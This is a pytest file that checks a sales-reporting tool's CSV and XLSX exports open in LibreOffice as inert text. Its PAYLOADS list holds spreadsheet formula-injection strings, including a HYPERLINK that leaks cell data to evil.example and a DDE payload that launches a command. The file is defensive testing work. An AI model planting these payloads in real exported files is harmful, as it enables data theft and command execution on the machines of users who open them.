"""Every CSV and XLSX salesnb writes opens in a spreadsheet as text, never as a formula (issue #14, defect 8).

The files are opened by headless LibreOffice (Debian's ``libreoffice-calc-nogui``, installed by
``make sysdeps``) with formula evaluation on, as a user double-clicking them gets, and converted to a
flat OpenDocument spreadsheet (``.fods``) whose cells are read back: no cell may hold a formula, each
dangerous text must read as written (with its leading quote), and numbers must stay numbers.

Without LibreOffice the tests skip, except in CI (``CI=true``), where its absence is a failure.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import xml.etree.ElementTree as ET
from dataclasses import dataclass
from pathlib import Path

import pytest

from salesnb.cli import main
from salesnb.periods import Period
from tests.plugins.warehouse import AS_OF

BAD = Path(__file__).parents[1] / "data" / "bad"
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
IN_CI = os.environ.get("CI", "").lower() == "true"

pytestmark = pytest.mark.skipif(
    SOFFICE is None and not IN_CI,
    reason="LibreOffice is not installed (make sysdeps installs libreoffice-calc-nogui)",
)

#: Cell texts that LibreOffice, Excel or Google Sheets would run (OWASP's CSV injection examples).
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]

#: LibreOffice's CSV import: comma, double quote, the character set, from line 1, standard cells,
#: no "quoted field as text", special numbers detected, and (token 13) formulas evaluated.
_CSV_FILTER = "Text - txt - csv (StarCalc):44,34,{charset},1,,0,false,true,false,false,false,-1,true"
UTF8, GBK = "76", "85"

_NS = {
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


@dataclass(frozen=True)
class Cell:
    formula: str | None
    kind: str | None  # office:value-type: string, float, ...
    value: str | None  # office:value of a number
    text: str


def open_in_libreoffice(path: Path, work: Path, charset: str = UTF8) -> list[Cell]:
    """The cells of ``path`` (CSV or XLSX) as LibreOffice reads them."""
    assert SOFFICE, "soffice is missing: CI must install libreoffice-calc-nogui (make sysdeps)"
    out = work / f"lo-{path.stem}-{charset}"
    args = [SOFFICE, "--headless", "--norestore", f"-env:UserInstallation={(work / 'lo-profile').as_uri()}"]
    if path.suffix == ".csv":
        args.append(f"--infilter={_CSV_FILTER.format(charset=charset)}")
    args += ["--convert-to", "fods", "--outdir", str(out), str(path)]
    subprocess.run(args, check=True, capture_output=True, timeout=300)
    (converted,) = out.glob("*.fods")
    cells = []
    for cell in ET.parse(converted).iter(f"{{{_NS['table']}}}table-cell"):
        paragraphs = cell.findall("text:p", _NS)
        cells.append(
            Cell(
                formula=cell.get(f"{{{_NS['table']}}}formula"),
                kind=cell.get(f"{{{_NS['office']}}}value-type"),
                value=cell.get(f"{{{_NS['office']}}}value"),
                text="\n".join(_paragraph_text(p) for p in paragraphs),
            )
        )
    return cells


def _paragraph_text(element: ET.Element) -> str:
    """A ``text:p``'s text, with ODF's elements for tabs, runs of spaces and line breaks as characters."""
    special = {"tab": "\t", "line-break": "\n"}
    out = [element.text or ""]
    for child in element:
        name = child.tag.rsplit("}", 1)[-1]
        if name in special:
            out.append(special[name])
        elif name == "s":
            out.append(" " * int(child.get(f"{{{_NS['text']}}}c", "1")))
        else:
            out.append(_paragraph_text(child))
        out.append(child.tail or "")
    return "".join(out)


def as_written(payload: str) -> str:
    """What a neutralised payload reads as: a leading quote; a carriage return is a line break."""
    return "'" + payload.replace("\r", "\n")


def assert_inert(cells: list[Cell], payloads: list[str]) -> None:
    formulas = [(c.formula, c.text) for c in cells if c.formula]
    assert not formulas, f"LibreOffice read formulas: {formulas}"
    texts = {c.text for c in cells if c.kind == "string"}
    for payload in payloads:
        assert as_written(payload) in texts, f"{payload!r} does not read as written"


def test_quarantine_csv_opens_as_text(tmp_path, capsys):
    """Owners and amounts that are formulas are quarantined; the quarantine CSV shows them as text, and
    a negative amount stays the number -5."""
    db, logs = str(tmp_path / "w.duckdb"), tmp_path / "imports"
    assert main(["ingest", str(BAD / "_roster_zoho.csv"), "--db", db]) == 0
    code = main(["ingest", str(BAD / "escape_deals_formulas.csv"), "--db", db, "--log-dir", str(logs)])
    assert code == 0, capsys.readouterr()
    (quarantine,) = logs.glob("*.quarantine.csv")
    cells = open_in_libreoffice(quarantine, tmp_path)
    assert_inert(cells, PAYLOADS)
    assert any(c.kind == "float" and c.value == "-5" for c in cells), "the amount -5 is no longer a number"


def test_kpis_csv_opens_as_text(tmp_path, capsys):
    """``salesnb kpis --format csv`` of a team named with a formula: the name is text, the KPIs and their
    (negative) changes are numbers."""
    db = str(tmp_path / "w.duckdb")
    for export in ("escape_users.csv", "escape_deals.csv"):
        assert main(["ingest", str(BAD / export), "--db", db]) == 0
    capsys.readouterr()
    assert main(["kpis", "--period", "2024-09", "--db", db, "--format", "csv"]) == 0
    written = tmp_path / "kpis.csv"
    written.write_text(capsys.readouterr().out, encoding="utf-8")
    cells = open_in_libreoffice(written, tmp_path)
    assert_inert(cells, [PAYLOADS[0]])
    assert any(c.kind == "float" and c.value == "-300" for c in cells), "a negative change is no number"


@pytest.mark.slow
def test_demo_crm_exports_open_as_text(tmp_path):
    """The demo's Zoho CSVs, Fxiaoke GBK CSVs and Fxiaoke XLSX, with names that are formulas."""
    from salesnb.demo import generate
    from salesnb.demo.exports import export_fxiaoke, export_zoho

    tables = generate(AS_OF, months=18)
    reps, opps = tables["reps"], tables["opportunities"]
    for team in ("bj-telesales", "sh-online"):
        # every rep of the team named with a formula (distinct names: owners are matched by name)
        rows = reps.index[reps["team_id"] == team]
        reps.loc[rows, "name"] = [f"{PAYLOADS[i % 2 * 3]} #{i}" for i in range(len(rows))]
        opps.loc[opps["rep_id"].isin(reps.loc[rows, "rep_id"]), "name"] = PAYLOADS[1]
    # the calls and follow-ups of the last month, as `salesnb demo --export-crm` writes: read quickly
    since = Period.latest_complete("month", AS_OF).start
    zoho = export_zoho(tables, ["bj-telesales"], tmp_path / "zoho", since)
    fxiaoke = export_fxiaoke(tables, ["sh-online"], tmp_path / "fxiaoke", since)
    for path in zoho + fxiaoke:
        cells = open_in_libreoffice(path, tmp_path, GBK if path in fxiaoke else UTF8)
        assert not [c.text for c in cells if c.formula], f"{path.name}: LibreOffice read formulas"
        texts = {c.text for c in cells}
        # reps' names in the rosters, as owners of deals and calls, as the people of follow-ups
        for payload in (PAYLOADS[0], PAYLOADS[3]):
            assert any(t.startswith(as_written(payload)) for t in texts), (path.name, payload)
        if path.name in ("Deals.csv", "商机.csv"):
            assert as_written(PAYLOADS[1]) in texts, path.name
